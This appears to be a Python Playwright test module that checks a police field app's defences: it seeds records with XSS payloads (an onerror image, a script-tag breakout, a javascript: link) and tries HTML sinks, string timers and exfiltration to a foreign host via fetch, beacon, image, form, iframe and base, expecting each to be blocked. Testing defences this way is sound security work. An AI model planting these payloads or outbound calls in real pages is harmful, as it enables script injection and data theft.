"""Attacks on the field app in headless Chromium: records whose values are HTML, scripts, frames and foreign hosts."""

from __future__ import annotations

import sqlite3
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import closing

import pytest
from playwright.async_api import Page, expect

from tests.system.field_visit import FieldVisit, phone, visit_of
from tests.system.server import DemoServer, demo_server, needtoknow

IMAGE = '<img src=x onerror="window.ran=1">'
SCRIPT = "</script><script>window.ran=1</script>"
LINK = "javascript:window.ran=1"
FOREIGN = "https://127.0.0.2"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DemoServer]:
    """A server of a world in which one person's names and address are HTML, and a car's model is a script."""
    data = tmp_path_factory.mktemp("world")
    needtoknow("seed", "--data", str(data), "--people", "60", "--rng", "1")
    person = "UPDATE person SET given = ?, middle = ?, street = ?, scars_marks_tattoos = ? WHERE id = 'P0000001'"
    with closing(sqlite3.connect(data / "persons.db")) as database:
        database.execute(person, (IMAGE, SCRIPT, IMAGE, f'["{LINK}"]'))
        database.commit()
    with closing(sqlite3.connect(data / "vehicles.db")) as database:
        changed = database.execute("UPDATE vehicle SET model = ? WHERE plate = '1N00001'", (SCRIPT,))
        assert changed.rowcount == 1
        database.commit()
    with demo_server(data) as server:
        yield server


@pytest.fixture
async def visit(tool: Callable[[str], str], hostile: DemoServer) -> AsyncIterator[FieldVisit]:
    """The app, signed in as a patrol officer."""
    async with phone(tool) as context:
        visit = await visit_of(context, hostile.url)
        await visit.sign_in()
        yield visit


@pytest.fixture
def page(visit: FieldVisit) -> Page:
    return visit.page


async def test_html_in_a_record_is_shown_as_text_and_never_run(visit: FieldVisit) -> None:
    await visit.ask("Plate", Plate="1N00001")
    await visit.answered()
    page = visit.page

    await expect(visit.answer).to_contain_text(f"{IMAGE} {SCRIPT} Thornquist")
    await expect(visit.answer).to_contain_text(f"Chevrolet {SCRIPT}")
    assert await page.evaluate("window.ran") is None
    assert await page.locator("#root :is(img, script, a[href^='javascript'])").count() == 0
    assert await page.title() == "needtoknow field"
    assert visit.console_messages == []


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<img src=x>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.body.append(document.createRange().createContextualFragment('<b>x</b>'))",
        "Object.assign(document.createElement('script'), {text: 'window.ran = 1'})",
        "setTimeout('window.ran = 1')",
        "trustedTypes.createPolicy('mine', {createHTML: (text) => text})",
    ],
)
async def test_no_code_of_the_page_can_make_html_or_a_script_of_a_text(page: Page, attempt: str) -> None:
    name = await page.evaluate(f"() => {{ try {{ {attempt}; return 'done' }} catch (error) {{ return error.name }} }}")

    assert name == "TypeError"
    assert await page.evaluate("window.ran") is None


async def test_the_page_reaches_no_other_host(page: Page) -> None:
    sent: list[str] = []
    await page.context.route(f"{FOREIGN}/**", lambda route: (sent.append(route.request.url), route.abort())[1])
    attempts = f"""async () => {{
      const blocked = [];
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
      await fetch('{FOREIGN}/name').catch(() => undefined);
      navigator.sendBeacon('{FOREIGN}/name');
      const form = Object.assign(document.createElement('form'), {{action: '{FOREIGN}/name', method: 'post'}});
      const base = Object.assign(document.createElement('base'), {{href: '{FOREIGN}/'}});
      document.body.append(Object.assign(new Image(), {{src: '{FOREIGN}/name'}}), base, form);
      document.body.append(Object.assign(document.createElement('iframe'), {{src: '{FOREIGN}/name'}}));
      form.submit();
      while (new Set(blocked).size < 5) await new Promise(requestAnimationFrame);
      return [...new Set(blocked)].sort();
    }}"""

    blocked = await page.evaluate(attempts)
    assert blocked == ["base-uri", "connect-src", "form-action", "frame-src", "img-src"]
    assert sent == []


async def test_no_other_page_can_frame_the_app(page: Page, hostile: DemoServer) -> None:
    # A page of another port of this host is of another origin.
    await page.goto("about:blank")
    await page.set_content(f'<iframe src="{hostile.url}/field"></iframe>')
    frame = page.frames[1]
    await frame.wait_for_load_state()

    assert await frame.locator("#root").count() == 0
